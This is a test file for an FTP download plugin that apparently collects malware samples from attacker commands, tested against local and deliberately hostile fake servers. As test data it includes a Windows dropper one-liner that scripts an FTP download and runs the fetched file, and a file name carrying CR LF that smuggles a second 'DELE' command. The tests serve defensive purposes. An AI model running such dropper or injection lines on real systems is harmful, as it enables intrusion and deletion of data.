import { spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { existsSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer, connect, type Server, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { fetchFtpFile, type FtpMode } from '../../src/plugins/download/ftp-client.js'
import { createFtpDownloadPlugin, FtpDownloadOptions } from '../../src/plugins/download/ftp-download.js'
import { attackOf, createTestContext, runPlugin, sha256Hex, subjectOf, type TestContextOptions } from '../helpers/plugin-harness.js'

// Debian's python3-pyftpdlib belongs to Debian's python; a pyenv or venv python3 earlier on PATH would not have it.
const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3'
const SERVER_SCRIPT = join(import.meta.dirname, '..', 'helpers', 'ftp-server.py')
const SAMPLE = randomBytes(256 * 1024)
const SPACED = Buffer.from('MZ a dropper with a space in its name')

let root = ''
let ftpPort = 0
let ftpPort6 = 0
const stops: (() => void)[] = []

/** Starts ftp-server.py on `address`; resolves with its port once it listens. */
async function startPyftpdlib(address: string): Promise<number> {
  const child = spawn(PYTHON, [SERVER_SCRIPT, root, address], { stdio: ['pipe', 'pipe', 'inherit'] })
  stops.push(() => {
    child.stdin.end()
    child.kill()
  })
  return new Promise<number>((resolve, reject) => {
    child.stdout.once('data', (chunk: Buffer) => resolve(Number(chunk.toString('latin1').trim())))
    child.once('error', reject)
    child.once('exit', (code) => reject(new Error(`ftp-server.py exited with ${code} (is python3-pyftpdlib installed?)`)))
  })
}

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'ftp-download-'))
  await writeFile(join(root, 'sample.bin'), SAMPLE)
  await writeFile(join(root, 'my file.exe'), SPACED)
  ;[ftpPort, ftpPort6] = await Promise.all([startPyftpdlib('127.0.0.1'), startPyftpdlib('::1')])
})

afterAll(async () => {
  for (const stop of stops) stop()
  await rm(root, { recursive: true, force: true })
})

function fetchWith(file: string, mode: FtpMode, login: { user: string; password: string }, options: TestContextOptions = {}, port = ftpPort, host = '127.0.0.1'): ReturnType<typeof fetchFtpFile> {
  const { ctx } = createTestContext(options)
  return fetchFtpFile({ host, port, file, mode, ...login }, ctx.downloads, ctx.signal)
}

const ANONYMOUS = { user: 'anonymous', password: 'anonymous@' }
const ALICE = { user: 'alice', password: 'secret' }

describe('fetchFtpFile against pyftpdlib', () => {
  it('fetches a file in passive mode as anonymous', async () => {
    const result = await fetchWith('sample.bin', 'passive', ANONYMOUS)
    expect(result.outcome).toBe('ok')
    expect(result.address).toBe('127.0.0.1')
    expect(sha256Hex(result.data ?? Buffer.alloc(0))).toBe(sha256Hex(SAMPLE))
  })

  it('fetches a file in active mode with a user and password', async () => {
    const result = await fetchWith('sample.bin', 'active', ALICE)
    expect(result.outcome).toBe('ok')
    expect(sha256Hex(result.data ?? Buffer.alloc(0))).toBe(sha256Hex(SAMPLE))
  })

  it.each(['passive', 'active'] as const)('fetches over IPv6 in %s mode (EPSV / EPRT)', async (mode) => {
    const result = await fetchWith('sample.bin', mode, ALICE, {}, ftpPort6, '::1')
    expect(result.outcome).toBe('ok')
    expect(result.address).toBe('::1')
    expect(sha256Hex(result.data ?? Buffer.alloc(0))).toBe(sha256Hex(SAMPLE))
  })

  it('reports a wrong password as the server refused it', async () => {
    const result = await fetchWith('sample.bin', 'passive-then-active', { user: 'alice', password: 'wrong' })
    expect(result.outcome).toBe('server-error')
    expect(result.reason).toMatch(/^530 /)
  })

  it('reports a missing file with its reply code', async () => {
    const result = await fetchWith('missing.exe', 'passive-then-active', ANONYMOUS)
    expect(result.outcome).toBe('server-error')
    expect(result.reason).toMatch(/^550 /)
  })

  it('abandons a file larger than maxBytes', async () => {
    const result = await fetchWith('sample.bin', 'passive', ANONYMOUS, { policy: { maxBytes: 10_000 } })
    expect(result.outcome).toBe('too-large')
    expect(result.data).toBeNull()
    expect(result.bytes).toBeGreaterThan(10_000)
  })

  it('refuses a server the download rules refuse, without connecting', async () => {
    const result = await fetchWith('sample.bin', 'passive', ANONYMOUS, { policy: { allow: [] } })
    expect(result.outcome).toBe('refused')
    expect(result.address).toBeNull()
  })
})

/** A scripted FTP server on 127.0.0.1: `answer` gets each command line and the socket; every line is kept. */
async function startFake(answer: (line: string, socket: Socket) => void, greeting = '220 fake ready\r\n'): Promise<{ port: number; lines: string[] }> {
  const lines: string[] = []
  const sockets = new Set<Socket>()
  const server = createServer((socket) => {
    sockets.add(socket)
    socket.on('error', () => undefined)
    if (greeting !== '') socket.write(greeting)
    let pending = ''
    socket.on('data', (chunk: Buffer) => {
      pending += chunk.toString('latin1')
      for (let end = pending.indexOf('\r\n'); end !== -1; end = pending.indexOf('\r\n')) {
        const line = pending.slice(0, end)
        pending = pending.slice(end + 2)
        lines.push(line)
        answer(line, socket)
      }
    })
  })
  onTestFinished(() => {
    for (const socket of sockets) socket.destroy()
    server.close()
  })
  return { port: await listen(server), lines }
}

function listen(server: Server): Promise<number> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as { port: number }).port)))
}

/** The login and TYPE answers every fake shares; false when the line is not one of those. */
function login(line: string, socket: Socket): boolean {
  const verb = line.split(' ')[0]
  const reply = verb === 'USER' ? '331 password please' : verb === 'PASS' ? '230 in' : verb === 'TYPE' ? '200 binary' : verb === 'QUIT' ? '221 bye' : null
  if (reply !== null) socket.write(`${reply}\r\n`)
  return reply !== null
}

describe('fetchFtpFile against hostile servers', () => {
  it('times out on a server that accepts and never answers', async () => {
    const { port } = await startFake(() => undefined, '')
    const started = Date.now()
    const result = await fetchWith('x', 'passive', ANONYMOUS, { policy: { timeoutMs: 500 } }, port)
    expect(result.outcome).toBe('timeout')
    expect(Date.now() - started).toBeLessThan(3_000)
  })

  it('connects to the control peer, never to the address a PASV reply names', async () => {
    const dataServer = createServer()
    const dataPeers: string[] = []
    dataServer.on('connection', (socket) => {
      dataPeers.push(socket.remoteAddress ?? '')
      socket.end('from the control peer')
    })
    onTestFinished(() => void dataServer.close())
    const dataPort = await listen(dataServer)
    const { port } = await startFake((line, socket) => {
      if (login(line, socket)) return
      if (line === 'PASV') socket.write(`227 Entering Passive Mode (10,0,0,1,${dataPort >> 8},${dataPort & 255})\r\n`)
      else if (line.startsWith('RETR')) socket.write('150 here\r\n226 done\r\n')
      else socket.write('502 no\r\n')
    })
    const result = await fetchWith('x.exe', 'passive', ANONYMOUS, {}, port)
    expect(result.outcome).toBe('ok')
    expect(result.data?.toString()).toBe('from the control peer')
    expect(dataPeers).toEqual(['127.0.0.1'])
    expect(result.address).toBe('127.0.0.1')
  })

  it('falls back to active mode when PASV is refused', async () => {
    const { port, lines } = await startFake((line, socket) => {
      if (login(line, socket)) return
      const portArgs = /^PORT (\d+),(\d+),(\d+),(\d+),(\d+),(\d+)$/.exec(line)
      if (portArgs !== null) {
        socket.write('200 ok\r\n')
        const [a, b, c, d, p1, p2] = portArgs.slice(1).map(Number) as [number, number, number, number, number, number]
        socket.once('data', () => {
          const data = connect({ host: `${a}.${b}.${c}.${d}`, port: p1 * 256 + p2 }, () => data.end('actively sent', () => socket.write('226 done\r\n')))
          socket.write('150 opening\r\n')
        })
      } else if (!line.startsWith('RETR')) socket.write('502 PASV not here\r\n')
    })
    const result = await fetchWith('x.exe', 'passive-then-active', ANONYMOUS, {}, port)
    expect(result.outcome).toBe('ok')
    expect(result.data?.toString()).toBe('actively sent')
    expect(lines).toContain('PASV')
    expect(lines.some((l) => l.startsWith('PORT 127,0,0,1,'))).toBe(true)
  })

  it('accepts the active data connection only from the control peer', async () => {
    const { port } = await startFake((line, socket) => {
      if (login(line, socket)) return
      const portArgs = /^PORT 127,0,0,1,(\d+),(\d+)$/.exec(line)
      if (portArgs !== null) {
        const dataPort = Number(portArgs[1]) * 256 + Number(portArgs[2])
        socket.write('200 ok\r\n')
        // Another host (127.0.0.2) races to the listener first; it must be dropped, and the peer's data kept.
        const intruder = connect({ host: '127.0.0.1', port: dataPort, localAddress: '127.0.0.2' }, () => intruder.write('intruder'))
        intruder.on('error', () => undefined)
        intruder.on('close', () => {
          const data = connect({ host: '127.0.0.1', port: dataPort }, () => data.end('from the peer', () => socket.write('226 done\r\n')))
        })
      } else if (line.startsWith('RETR')) socket.write('150 opening\r\n')
    })
    const result = await fetchWith('x.exe', 'active', ANONYMOUS, {}, port)
    expect(result.outcome).toBe('ok')
    expect(result.data?.toString()).toBe('from the peer')
  })

  it('never sends a file name that carries CR LF (no second command on the control connection)', async () => {
    const { port, lines } = await startFake((line, socket) => {
      if (!login(line, socket)) socket.write('227 Entering Passive Mode (127,0,0,1,0,1)\r\n')
    })
    const result = await fetchWith('x.exe\r\nDELE important', 'passive', ANONYMOUS, {}, port)
    expect(result.outcome).toBe('unsupported')
    expect(result.address).toBeNull()
    expect(lines.some((l) => l.startsWith('DELE'))).toBe(false)
    expect(lines.some((l) => l.startsWith('RETR'))).toBe(false)
  })

  it('reads multi-line replies and refuses an endless reply line', async () => {
    const { port } = await startFake((line, socket) => {
      if (line.startsWith('USER')) socket.write('230-welcome\r\n230-\r\n 230 still inside\r\n230 in\r\n')
      else if (line.startsWith('TYPE')) socket.write(`200 ${'A'.repeat(100_000)}`)
    }, '220-hello\r\nthis is line two\r\n220 ready\r\n')
    const result = await fetchWith('x.exe', 'passive', ANONYMOUS, {}, port)
    expect(result.outcome).toBe('protocol-error')
    expect(result.reason).toBe('reply line too long')
  })
})

describe('ftpDownload plugin', () => {
  const options = FtpDownloadOptions.parse({})

  it('fetches what a Windows dropper script asks for, end to end', async () => {
    const script = `cmd /c echo open 127.0.0.1 ${ftpPort}> o&echo user alice secret >> o&echo binary >> o&echo get sample.bin >> o&` +
      `echo get "my file.exe">>o&echo get missing.exe>>o&echo get sample.bin>>o&echo quit >> o&ftp -n -s:o&sample.bin`
    const collected = await runPlugin(createFtpDownloadPlugin(options), subjectOf(attackOf(script)))
    const byUrl = new Map(collected.downloads.map((d) => [d.attempt.url, d]))
    expect(collected.downloads).toHaveLength(3)
    const sample = byUrl.get(`ftp://127.0.0.1:${ftpPort}/sample.bin`)
    expect(sample?.attempt.outcome).toBe('ok')
    expect(sha256Hex(sample?.sample ?? Buffer.alloc(0))).toBe(sha256Hex(SAMPLE))
    expect(sample?.attempt.bytes).toBe(SAMPLE.length)
    expect(byUrl.get(`ftp://127.0.0.1:${ftpPort}/my%20file.exe`)?.sample?.equals(SPACED)).toBe(true)
    const missing = byUrl.get(`ftp://127.0.0.1:${ftpPort}/missing.exe`)
    expect(missing?.attempt).toMatchObject({ outcome: 'server-error', address: '127.0.0.1' })
    expect(missing?.attempt.reason).toMatch(/^550 /)
    expect(missing?.sample).toBeUndefined()
  })

  it('records a recently fetched URL as cached without connecting', async () => {
    const url = `ftp://127.0.0.1:${ftpPort}/sample.bin`
    const history = { find: () => [], recentDownload: (u: string) => (u === url ? 'ab'.repeat(32) : null) }
    const payload = `ftp://anonymous:x@127.0.0.1:${ftpPort}/sample.bin`
    const collected = await runPlugin(createFtpDownloadPlugin(options), subjectOf(attackOf(payload)), { history })
    expect(collected.downloads.map((d) => d.attempt.outcome)).toEqual(['cached'])
    expect(collected.downloads[0]?.sample).toBeUndefined()
  })
})
